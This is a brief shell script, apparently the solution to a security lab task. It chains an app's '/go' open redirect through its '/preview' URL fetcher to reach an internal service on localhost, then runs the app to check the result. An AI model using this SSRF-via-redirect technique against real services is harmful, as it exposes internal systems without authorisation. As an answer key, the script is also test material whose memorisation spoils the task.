# Only the first address is looked at, and the board itself leads to any other.
python3 - <<'END'
import json, urllib.parse
inner = "http://127.0.0.1:8000/go?" + urllib.parse.urlencode({"to": "http://127.0.0.1:8001/word"})
json.dump([{"path": "/preview?" + urllib.parse.urlencode({"url": inner})}], open("/task/requests.json", "w"))
END
APP_SECRET=0123456789abcdef0123456789abcdef python3 -B app.py &
sleep 1
python3 -c "
import json, urllib.request
print(urllib.request.urlopen('http://127.0.0.1:8000' + json.load(open('/task/requests.json'))[0]['path']).read())"
kill $!
